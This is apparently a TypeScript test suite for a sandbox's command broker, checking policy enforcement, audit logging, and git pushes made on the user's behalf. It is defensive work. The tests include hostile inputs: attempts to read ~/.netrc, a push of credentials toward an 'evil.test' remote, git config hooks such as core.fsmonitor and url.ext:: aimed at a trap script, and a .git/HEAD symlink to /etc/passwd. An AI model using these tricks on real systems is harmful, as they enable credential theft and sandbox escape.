import { strict as assert } from 'node:assert';
import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';

import type { AskAboutCommand, BrokeredCall, HostLookup } from 'sandbox-core';
import { checkAuditLog } from 'sandbox-core/internal/monitor/audit-check';
import type { Policy } from 'sandbox-core/policy';

import { policyOf } from '../support/policies';
import { listen } from '../support/raw-socket';
import { openSandbox, whyNotEnforced, type TestSandbox } from '../support/sandbox';
import { temporaryDirectory } from '../support/temporary';

const skip = whyNotEnforced() ?? false;

const lookup: HostLookup = () => Promise.resolve([{ address: '127.0.0.1', family: 4 }]);

interface Setting {
  readonly sandbox: TestSandbox;
  readonly calls: BrokeredCall[];
  readonly notices: string[];
  /** A directory of programs outside of the project, first in PATH. */
  readonly programs: string;
  readonly home: string;
}

interface SettingOptions {
  readonly broker: NonNullable<Policy['broker']>;
  readonly programs?: Readonly<Record<string, string>>;
  readonly environment?: Readonly<Record<string, string>>;
  readonly askCommand?: AskAboutCommand;
  readonly allowWrite?: readonly string[];
  readonly audit?: string;
}

async function open(context: TestContext, { broker, audit, programs = {}, environment = {}, askCommand, allowWrite = ['.'] }: SettingOptions): Promise<Setting> {
  const cleanup = { after: (undo: () => void | Promise<void>) => context.after(undo) };
  // The home is not in /tmp, of which every sandbox has its own.
  const [home, bin] = [temporaryDirectory(cleanup, { '.netrc': 'secret' }, '/var/tmp'), temporaryDirectory(cleanup)];
  for (const [name, text] of Object.entries(programs)) {
    writeFileSync(join(bin, name), `#!/bin/sh\n${text}\n`);
    chmodSync(join(bin, name), 0o755);
  }
  const calls: BrokeredCall[] = [];
  const notices: string[] = [];
  const sandbox = await openSandbox(cleanup, {
    policy: { ...policyOf({ filesystem: { denyRead: [home], allowWrite: [...allowWrite], denyWrite: [bin] } }), broker },
    home,
    lookup,
    environment: { PATH: `${bin}:${process.env['PATH'] ?? ''}`, HOME: home, ...environment },
    ...(audit !== undefined && { audit: { file: audit } }),
    brokered: (call) => calls.push(call),
    notice: (text) => notices.push(text),
    ...(askCommand && { askCommand }),
  });
  return { sandbox, calls, notices, programs: bin, home };
}

function git(directory: string, ...args: string[]): string {
  return execFileSync('git', ['-C', directory, '-c', 'user.name=A', '-c', 'user.email=a@example.com', '-c', 'init.defaultBranch=main', ...args], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], env: { PATH: process.env['PATH'], HOME: directory } });
}

/** A git server over HTTP that wants a password: git-http-backend(1). */
async function gitServer(context: TestContext): Promise<{ readonly port: number; readonly repository: string }> {
  const cleanup = { after: (undo: () => void) => context.after(undo) };
  const root = temporaryDirectory(cleanup);
  const repository = join(root, 'project.git');
  git(root, 'init', '--bare', repository);
  git(repository, 'config', 'http.receivepack', 'true');
  const server = createServer((request, response) => {
    if (request.headers.authorization !== `Basic ${Buffer.from('user:secret').toString('base64')}`) return void response.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
    const url = new URL(request.url ?? '/', 'http://git.test');
    const backend = spawn('git', ['http-backend'], {
      env: { PATH: process.env['PATH'], GIT_PROJECT_ROOT: root, GIT_HTTP_EXPORT_ALL: '1', REMOTE_USER: 'user', PATH_INFO: url.pathname, QUERY_STRING: url.search.slice(1), REQUEST_METHOD: request.method, CONTENT_TYPE: request.headers['content-type'] ?? '', ...(request.headers['content-encoding'] && { HTTP_CONTENT_ENCODING: request.headers['content-encoding'] }), ...(request.headers['content-length'] && { CONTENT_LENGTH: request.headers['content-length'] }) },
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    request.pipe(backend.stdin);
    const chunks: Buffer[] = [];
    backend.stdout.on('data', (chunk: Buffer) => chunks.push(chunk));
    backend.once('close', () => {
      const answer = Buffer.concat(chunks);
      const end = answer.indexOf('\r\n\r\n');
      const headers = answer.subarray(0, end).toString().split('\r\n').map((line) => line.split(': ') as [string, string]);
      const status = Number(headers.find(([name]) => name.toLowerCase() === 'status')?.[1].slice(0, 3) ?? 200);
      response.writeHead(status, Object.fromEntries(headers)).end(answer.subarray(end + 4));
    });
  });
  return { port: await listen(server, cleanup), repository };
}

function project(sandbox: TestSandbox, remote: string): void {
  git(sandbox.directory, 'init');
  git(sandbox.directory, 'commit', '--allow-empty', '-m', 'first');
  git(sandbox.directory, 'remote', 'add', 'origin', remote);
}

describe('the broker', { skip }, () => {
  it('has each call in the audit log: asked about, refused, and how it ended', async (context) => {
    const log = join(temporaryDirectory({ after: (undo) => context.after(undo) }), 'audit.jsonl');
    const { sandbox } = await open(context, { broker: { allow: ['release'], ask: ['publish *'], deny: ['publish secrets'] }, programs: { release: 'exit 3', publish: 'echo ran' }, askCommand: () => Promise.resolve(true), audit: log });
    await sandbox.script('release; publish docs; publish secrets');
    await sandbox.session.stop();
    const calls = readFileSync(log, 'utf8').split('\n').filter((line) => line.includes('"type":"brokered"')).map((line) => (JSON.parse(line) as { call: BrokeredCall }).call);
    assert.deepEqual(calls.map(({ command, asked, outcome, status }) => [command, asked, outcome, status]), [['release', false, 'ran', 3], ['publish docs', true, 'ran', 0], ['publish secrets', false, 'refused', undefined]]);
    assert.deepEqual(checkAuditLog([{ file: log, text: readFileSync(log, 'utf8') }]).findings, []);
  });

  it("runs what it grants outside, with the user's files and variables, and streams what it says", async (context) => {
    const { sandbox, calls } = await open(context, {
      broker: { allow: ['release * [--note *]'], environment: ['RELEASE_TOKEN'] },
      programs: { release: 'echo "$RELEASE_TOKEN $OTHER $(cat ~/.netrc) $*"; echo problem >&2; pwd; exit 7' },
      environment: { RELEASE_TOKEN: 'token', OTHER: 'other' },
    });
    const { code, stdout, stderr } = await sandbox.script('cat ~/.netrc; release v1 --note "a b"');
    assert.equal(code, 7);
    assert.match(stdout, /^token {2}secret v1 --note a b\n\/.*\/broker\/1\/directory\n$/);
    assert.match(stderr, /\.netrc: (No such file|Permission denied)[^]*problem\n$/);
    assert.deepEqual(calls.map(({ command, outcome, status }) => ({ command, outcome, status })), [{ command: 'release v1 --note "a b"', outcome: 'ran', status: 7 }]);
  });

  it('leaves every other use of the program inside', async (context) => {
    const { sandbox, calls } = await open(context, { broker: { allow: ['release *'] }, programs: { release: 'echo "inside $* $(cat ~/.netrc 2>&1)"' } });
    const { stdout } = await sandbox.script('release --force v1; release; release v1 v2; exec -a srt-helper release --version');
    assert.equal(stdout.match(/^inside/gm)?.length, 4);
    assert.doesNotMatch(stdout, /secret/);
    assert.deepEqual(calls, []);
  });

  it('refuses what it denies, with guidance, and what nobody can be asked about', async (context) => {
    const { sandbox, calls } = await open(context, { broker: { allow: ['release ... [--force]'], ask: ['publish'], deny: [{ command: 'release --force', guidance: 'Ask the team.' }] }, programs: { release: 'echo ran', publish: 'echo ran' } });
    const { code, stdout, stderr } = await sandbox.script('publish; release v1 --force');
    assert.deepEqual([code, stdout], [126, '']);
    assert.equal(stderr, 'srt: not run outside: "publish" is covered by "publish" in broker.ask, and nobody can be asked here\nsrt: not run outside: "release v1 --force" is covered by "release --force" in broker.deny: Ask the team.\n');
    assert.deepEqual(calls.map(({ outcome }) => outcome), ['refused', 'refused']);
  });

  it('asks with the words that would run, made safe to show', async (context) => {
    const asked: string[] = [];
    const { sandbox } = await open(context, { broker: { ask: ['publish ...'] }, programs: { publish: 'echo ran' }, askCommand: ({ command }) => (asked.push(command), Promise.resolve(asked.length === 1)) });
    const { stdout, stderr } = await sandbox.script(`publish $'a\\e[2Jb'; publish c`);
    assert.equal(stdout, 'ran\n');
    assert.match(stderr, /denied when asked/);
    assert.equal(asked.length, 2);
    assert.ok(asked.every((command) => !command.includes('\u001b')));
  });

  it('pushes to a repository that only the user may write to, and leads nowhere else', async (context) => {
    const { port, repository } = await gitServer(context);
    const { sandbox, home, notices } = await open(context, { broker: { allow: ['git push origin *', 'git push other *'], hosts: [`git.test:${port}`, '127.0.0.1'] } });
    writeFileSync(join(home, '.netrc'), 'machine git.test login user password secret\nmachine evil.test login user password secret\n');
    project(sandbox, `http://git.test:${port}/project.git`);
    git(sandbox.directory, 'remote', 'add', 'other', `http://evil.test:${port}/project.git`);
    const { code, stderr } = await sandbox.script('git push origin main && ! git push other main && ! git push --force origin main');
    assert.equal(code, 0, stderr);
    assert.equal(git(repository, 'log', '--format=%s', 'main'), 'first\n');
    assert.match(stderr, /Could not resolve host: evil\.test/);
    assert.ok(notices.some((notice) => notice.includes('evil.test')));
  });

  it('has git run nothing that a hostile repository names', async (context) => {
    const { port, repository } = await gitServer(context);
    const { sandbox, home } = await open(context, { broker: { allow: ['git push origin *'], hosts: [`git.test:${port}`, '127.0.0.1'] } });
    writeFileSync(join(home, '.netrc'), 'machine git.test login user password secret\n');
    project(sandbox, `http://git.test:${port}/project.git`);
    const proof = join(sandbox.directory, 'proof');
    const trap = join(sandbox.directory, 'trap');
    writeFileSync(trap, `#!/bin/sh\necho "$0 $*" >> ${proof}\n`);
    chmodSync(trap, 0o755);
    for (const hook of ['pre-push', 'reference-transaction', 'post-index-change']) symlinkSync(trap, join(sandbox.directory, '.git', 'hooks', hook));
    for (const name of ['core.fsmonitor', 'core.sshCommand', 'core.pager', 'core.editor', 'core.gitProxy', 'credential.helper', 'core.alternateRefsCommand', 'push.gpgSign', 'gpg.program', 'core.askPass', 'http.proxyAuthMethod', 'remote.origin.receivepack', 'remote.origin.vcs', 'alias.push']) git(sandbox.directory, 'config', name, trap);
    git(sandbox.directory, 'config', 'core.hooksPath', sandbox.directory);
    git(sandbox.directory, 'config', 'include.path', join(sandbox.directory, 'more'));
    git(sandbox.directory, 'config', `url.ext::${trap}.insteadOf`, 'http://git.test');
    const { code, stderr } = await sandbox.script('git push origin main');
    assert.equal(code, 0, stderr);
    assert.match(stderr, /does without this repository's own core\.fsmonitor, core\.sshcommand/);
    assert.equal(git(repository, 'log', '--format=%s', 'main'), 'first\n');
    assert.equal(existsSync(proof), false);
  });

  it('sends no objects that the repository borrows, and reads no link in the place of a ref', async (context) => {
    const { sandbox } = await open(context, { broker: { allow: ['git push origin *'] } });
    project(sandbox, 'http://git.test/project.git');
    const alternates = join(sandbox.directory, '.git', 'objects', 'info', 'alternates');
    writeFileSync(alternates, '/elsewhere\n');
    const borrowed = await sandbox.script('git push origin main');
    assert.match(borrowed.stderr, /borrows objects/);
    writeFileSync(alternates, '');
    mkdirSync(join(sandbox.directory, 'b'));
    const linked = await sandbox.script('rm -f .git/objects/info/alternates .git/HEAD; ln -s /etc/passwd .git/HEAD; git push origin main');
    assert.match(linked.stderr, /cannot be (read|used outside)/);
    assert.doesNotMatch(linked.stderr, /root:/);
  });

  it('reads no object of a repository that is hidden inside, whatever leads to it', async (context) => {
    const { sandbox, home } = await open(context, { broker: { allow: ['git cat-file -p *'] } });
    git(home, 'init');
    git(sandbox.directory, 'init');
    const add = (directory: string, text: string): string => {
      writeFileSync(join(directory, 'file'), text);
      return git(directory, 'hash-object', '-w', 'file').trim();
    };
    const [hidden, own] = [add(home, 'hidden text'), add(sandbox.directory, 'own text')];
    const [fan, rest] = [hidden.slice(0, 2), hidden.slice(2)];
    const blob = `.git/objects/${fan}/${rest}`;
    const read = async (setup: string): Promise<string> => {
      const { stdout, stderr } = await sandbox.script(`${setup}; git cat-file -p ${hidden}`);
      assert.doesNotMatch(stdout + stderr, /hidden text/, setup);
      return stderr;
    };
    assert.match(await read(`ln -s ${home}/.git/objects/${fan} .git/objects/${fan}`), new RegExp(`objects/${fan} is no directory; links are not followed`));
    assert.match(await read(`rm .git/objects/${fan}; mkdir .git/objects/${fan}; ln -s ${home}/${blob} ${blob}`), /is no file; links are not followed/);
    await read(`rm -r .git/objects/${fan}; mkdir d; ln -s ${home}/.git d/.git; cd d`);
    await read(`rm -r d; mv .git/objects objects; ln -s ${home}/.git/objects .git/objects`);
    const twin = await sandbox.script(`rm .git/objects; mv objects .git/objects; git cat-file -p ${own}`);
    assert.equal(twin.stdout, 'own text', twin.stderr);
  });

  it('reads packed objects', async (context) => {
    const { sandbox, calls } = await open(context, { broker: { allow: ['git log --format=%s'] } });
    project(sandbox, 'http://git.test/project.git');
    git(sandbox.directory, 'gc', '--quiet');
    const { stdout, stderr } = await sandbox.script('git log --format=%s');
    assert.equal(stdout, 'first\n', stderr);
    assert.deepEqual(calls.map(({ outcome, status }) => [outcome, status]), [['ran', 0]]);
  });

  it('runs no program that something inside could have put there', async (context) => {
    const { sandbox, home } = await open(context, { broker: { allow: ['release'] } });
    const bin = join(sandbox.directory, 'bin');
    mkdirSync(bin);
    writeFileSync(join(bin, 'release'), '#!/bin/sh\ncat ~/.netrc\n');
    chmodSync(join(bin, 'release'), 0o755);
    const { stdout, stderr } = await sandbox.script(`PATH=$PATH:${bin} release`);
    assert.equal(stdout, '');
    assert.match(stderr, /release was not found outside/);
    assert.equal(readFileSync(join(home, '.netrc'), 'utf8'), 'secret');
  });

  it('ends a command whose caller is gone, and survives callers that do not speak its protocol', async (context) => {
    const { sandbox, calls, programs } = await open(context, { broker: { allow: ['wait-for-ever', 'release'] }, programs: { 'wait-for-ever': 'echo started; exec sleep 1000', release: 'echo ran' } });
    const { stdout } = await sandbox.script(`(wait-for-ever & echo $! > pid; wait) | { read line; echo $line; kill $(cat pid); }
      head -c 400000 /dev/zero > /dev/tcp/198.18.0.1/3129; echo nonsense > /dev/tcp/198.18.0.1/3129; release`);
    assert.equal(stdout, 'started\nran\n');
    assert.ok(calls.some(({ command }) => command === 'release'), programs);
  });

  it('begins nothing whose caller ended while somebody was asked about it, and waits for no answer to that', async (context) => {
    const lapses: AbortSignal[] = [];
    let agree = (_agreed: boolean): void => undefined;
    const { sandbox, calls } = await open(context, {
      broker: { ask: ['publish'] },
      programs: { publish: 'echo ran' },
      askCommand: (_question, lapsed) => {
        lapses.push(lapsed);
        writeFileSync(join(sandbox.directory, `asked-${lapses.length}`), '');
        return new Promise<boolean>((resolve) => (agree = resolve));
      },
    });
    const call = (asked: string): string => `publish & until [ -e ${asked} ]; do sleep 0.01; done; kill $!; wait`;
    await sandbox.script(call('asked-1'));
    agree(true);
    await sandbox.script(call('asked-2'));
    await sandbox.session.stop();
    assert.deepEqual(calls.map(({ outcome }) => outcome), ['refused', 'refused']);
    assert.equal(lapses[1]?.aborted, true);
  });

  it('runs several at once, in a repository too, and shows none what another one was given', async (context) => {
    const { sandbox } = await open(context, { broker: { allow: ['list *'] }, programs: { list: 'echo x > "$GIT_DIR/config"; echo x > "$GIT_DIR/extra"; ls "$PWD/../.."; echo "done $1"' } });
    git(sandbox.directory, 'init');
    const { stdout, stderr } = await sandbox.script('for i in $(seq 12); do list $i & done; wait');
    const lines = stdout.trim().split('\n');
    assert.equal(lines.filter((line) => line.startsWith('done')).length, 12, `${stdout}\n${stderr}`);
    assert.equal(lines.filter((line) => /^\d+$/.test(line)).length, 12); // each lists its own alone
  });

  it('lets a command start where its caller is, if the policy says so', async (context) => {
    const { sandbox } = await open(context, { broker: { allow: [{ command: 'sign *', directory: 'caller' }] }, programs: { sign: 'cat ~/.netrc "$1" > "$1.sig"; pwd; echo x > /var/tmp/srt-outside 2>/dev/null || echo "only there"' } });
    const { stdout } = await sandbox.script('mkdir d; cd d; echo text > file; sign file; cat file.sig');
    assert.equal(stdout, `${sandbox.directory}/d\nonly there\nsecrettext\n`);
  });
});
